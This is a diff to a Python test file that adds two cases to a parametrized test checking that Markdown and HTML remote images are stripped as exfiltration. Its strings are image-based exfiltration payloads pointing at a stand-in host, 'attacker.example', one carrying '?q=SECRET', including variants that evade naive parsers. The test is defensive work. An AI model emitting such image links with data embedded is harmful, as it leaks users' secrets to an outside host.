@@ -61,6 +61,8 @@ def test_markdown_image_exfiltration_is_removed_with_its_span() -> None:
         '<img src="https://attacker.example/?q=SECRET">',
         '<img srcset="https://ok.example/a.png 1x, https://attacker.example/?q=1 2x">',
         "![x](https://attacker.example&#47;?q=1)",
+        "[![img](https://attacker.example/i.png)](https://docs.example/)",  # an image inside a link
+        "![x] [r]\n[r]: https://attacker.example/i.png",  # Markdown.pl allows a space before the label
     ],
 )
 def test_remote_images_are_exfiltration(text: str) -> None:
